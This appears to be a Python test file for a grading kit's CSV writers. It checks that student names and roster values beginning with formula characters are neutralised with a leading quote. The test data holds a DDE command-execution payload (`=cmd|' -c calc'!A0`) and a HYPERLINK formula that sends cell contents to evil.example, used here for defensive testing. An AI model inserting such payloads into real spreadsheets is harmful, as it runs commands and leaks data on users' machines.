"""CSV cells a spreadsheet shows as text (grader/classroom/spreadsheet.py), in every CSV the kit writes.

OWASP's CSV Injection page: no cell may begin with `=`, `+`, `-`, `@`, a tab or a carriage return; a
single quote in front makes the cell text. The unit tests cover the rule; the rest write a student
named `=cmd|' -c calc'!A0` (and roster values like it) through the kit's real writers and read each
file back with the csv module.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest

from grader.catalog import Kit
from grader.classroom.arena import ArenaResult, PlayerKind, Standing
from grader.classroom.arena_report import TABLE_COLUMNS, write_arena
from grader.classroom.batch import find_students
from grader.classroom.class_report import write_class_report
from grader.classroom.gradebooks import (
    LMS_FORMATS,
    ClassGrades,
    GradedExercise,
    RosterRow,
    gradebook_rows,
    write_lms_gradebook,
)
from grader.classroom.item_analysis import Attempt, CheckResult, Mistake
from grader.classroom.regrade import CHANGE_COLUMNS, compare_attempts, write_changes
from grader.classroom.similarity import (
    SIMILAR_COLUMNS,
    compare_exercise,
    write_similarity,
)
from grader.classroom.spreadsheet import SafeWriter, safe_cell, safe_rows
from grader.outcomes import Status
from tests.conftest import REPO

# The folder name: Excel's DDE would run calc from this cell.
EVIL = "=cmd|' -c calc'!A0"
# OWASP's six: equals, plus, minus, at, tab, carriage return.
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]


def _read(path: Path, delimiter: str = ",") -> list[list[str]]:
    """A CSV file's rows, read back with the csv module."""
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle, delimiter=delimiter))


@pytest.mark.parametrize("first", DANGEROUS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_a_name_that_begins_with_a_formula_character_is_written_as_text(first):
    name = f"{first}HYPERLINK(\"http://evil.example/?\"&A1)"
    assert safe_cell(name) == "'" + name
    buffer = io.StringIO()
    SafeWriter(buffer).writerows([["student", "ex01"], [name, "8"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert rows == [["student", "ex01"], ["'" + name, "8"]]  # the quotes and the comma survive the round trip


@pytest.mark.parametrize("number", ["8", "0", "2.6667", "-3", "+1", "-0.5", "-.5", "1e+06", "-1.5E-07", "4."])
def test_a_cell_that_is_a_plain_number_is_left_a_number(number):
    assert safe_cell(number) == number
    buffer = io.StringIO()
    SafeWriter(buffer).writerow(["alice", number])
    assert buffer.getvalue() == f"alice,{number}\r\n"


@pytest.mark.parametrize("text", ["-3+A1", "-", "+", "-1,5", "- 3", "-3 ", "-0x10", "-inf", "-\u0663", "+44 20 7946"])
def test_a_cell_that_only_begins_like_a_number_is_guarded(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("cell", ["alice", "", "O'Brien", "a=b", "Doe, Carol", "'=already", " =spaced", "ex04 Alpha-beta"])
def test_other_text_is_left_as_it_is(cell):
    assert safe_cell(cell) == cell


def test_numbers_and_blanks_the_kit_passes_as_such_are_left_alone():
    assert [safe_cell(cell) for cell in (-3, -0.5, 8, None, True)] == [-3, -0.5, 8, None, True]
    assert list(safe_rows([[EVIL, -3], ("@x", "-3")])) == [["'" + EVIL, -3], ["'@x", "-3"]]


@pytest.mark.parametrize("lms", sorted(LMS_FORMATS))
def test_an_lms_gradebook_keeps_the_roster_values_with_the_guard(lms, tmp_path):
    fmt = LMS_FORMATS[lms]
    # Every roster column the LMS could fill holds a value a spreadsheet would run as a formula.
    roster = {column.roster: f"@{column.roster}" for column in fmt.student_columns}
    roster.update({"folder": EVIL, "id": "-42", "name": EVIL, "email": "+bob@uni.example", "username": "=user"})
    grades = ClassGrades((GradedExercise("ex01", "-Minimax", 8.0),), {EVIL: {"ex01": 2.5}})
    path = tmp_path / f"gradebook-{lms}.csv"
    write_lms_gradebook(fmt, gradebook_rows(fmt, grades, [RosterRow(2, roster)]), path)
    header, *rows = _read(path, fmt.delimiter)
    student = rows[-1]
    expected = [safe_cell(roster.get(column.roster, "")) for column in fmt.student_columns]
    assert student == [*expected, "2.5"]
    # Each value is the roster's own, behind the quote: nothing else changed, and no cell begins a formula.
    assert [cell.removeprefix("'") for cell in student[:-1]] == \
        [roster.get(column.roster, "") for column in fmt.student_columns]
    assert "-42" in student  # an id that is a plain number stays the number it is
    assert not any(cell[:1] in DANGEROUS and cell != "-42" for row in (header, *rows) for cell in row)
    assert header[-1] == "ex01 -Minimax" and rows[-1][-1] == "2.5"
    if fmt.points_row is not None:
        assert rows[0][-1] == "8"


def test_similar_csv_guards_a_student_named_like_a_formula(tmp_path):
    folder = tmp_path / "class"
    folder.mkdir()
    reference = REPO / "solutions" / "ex04_alpha_beta" / "alpha_beta.py"
    for name in (EVIL, "@bob", "-carol"):
        shutil.copyfile(reference, folder / f"{name}.py")
    students = find_students(folder)
    assert sorted(student.name for student in students) == sorted([EVIL, "@bob", "-carol"])
    write_similarity([compare_exercise(Kit(REPO).resolve("ex04"), students)], tmp_path / "marks")
    header, *rows = _read(tmp_path / "marks" / "similar.csv")
    assert header == SIMILAR_COLUMNS
    assert sorted(cell for row in rows for cell in row[:2]) == sorted(["'" + EVIL, "'" + EVIL, "'@bob", "'@bob",
                                                                        "'-carol", "'-carol"])
    assert all(float(row[3]) == 1.0 and row[6] == "yes" for row in rows)  # the figures stay numbers


def _attempt(student: str, score: float, *, mistakes: tuple[Mistake, ...] = (), check: str = "test_take") -> Attempt:
    """A report on ex01 with one public check, named `check`."""
    result = CheckResult(f"checks/test_public.py::{check}", check, True, 8.0, score, score == 8.0, 0.01, None, None)
    return Attempt(student, "ex01", "Minimax", Status.PASS if score == 8.0 else Status.FAIL, score, 8.0, (result,),
                   mistakes)


def test_changes_csv_guards_the_name_and_keeps_a_signed_change_a_number(tmp_path):
    regrade = compare_attempts([_attempt(EVIL, 8.0), _attempt("alice", 5.0)],
                               [_attempt(EVIL, 5.0), _attempt("alice", 8.0)])
    write_changes(regrade, tmp_path / "changes.csv")
    header, *rows = _read(tmp_path / "changes.csv")
    assert header == CHANGE_COLUMNS
    by_student = {row[0]: row for row in rows}
    assert by_student["'" + EVIL][2:5] == ["8", "5", "-3"]
    assert by_student["alice"][2:5] == ["5", "8", "3"]
    assert EVIL not in by_student


def test_checks_and_mistakes_csv_guard_the_students_folders(tmp_path):
    mistake = (Mistake("-off_by_one", "=counts one too many"),)
    write_class_report([_attempt(EVIL, 0.0, mistakes=mistake, check="@take"), _attempt("alice", 8.0, check="@take")],
                       tmp_path)
    header, row = _read(tmp_path / "mistakes.csv")
    mistakes = dict(zip(header, row))
    assert mistakes["folders"] == "'" + EVIL  # the one student who made it, first in the cell
    assert mistakes["mistake"] == "'-off_by_one" and mistakes["why"] == "'=counts one too many"
    assert mistakes["students"] == "1" and mistakes["share"] == "0.5000"
    header, row = _read(tmp_path / "checks.csv")
    check = dict(zip(header, row))
    assert check["check"] == "'@take" and check["check_id"] == "checks/test_public.py::@take"
    assert (check["points"], check["students"], check["passed"], check["pass_rate"]) == ("8", "2", "1", "0.5000")


def test_arena_csv_guards_a_player_named_like_a_formula(tmp_path):
    standing = Standing(EVIL, PlayerKind.STUDENT, rating=-1.5, mu=25.0, sigma=8.8333, wins=1, draws=0, losses=2,
                        forfeits=0)
    result = ArenaResult(Kit(REPO).resolve("ex08"), "nim", 1, 1.0, None, (standing,), ())
    table, _ = write_arena(result, tmp_path)
    header, row = _read(table)
    assert header == TABLE_COLUMNS
    assert row[:3] == ["'" + EVIL, "-1.500", "1"]


def test_grades_csv_guards_a_student_named_like_a_formula(tmp_path):
    from grader.classroom.batch import write_gradebook

    write_gradebook({EVIL: {"ex01": {"score": 8.0}}, "alice": {"ex01": {"score": 2.5}}}, ["ex01"],
                    tmp_path / "grades.csv")
    assert _read(tmp_path / "grades.csv") == [["student", "ex01", "total"], ["'" + EVIL, "8", "8"],
                                              ["alice", "2.5", "2.5"]]
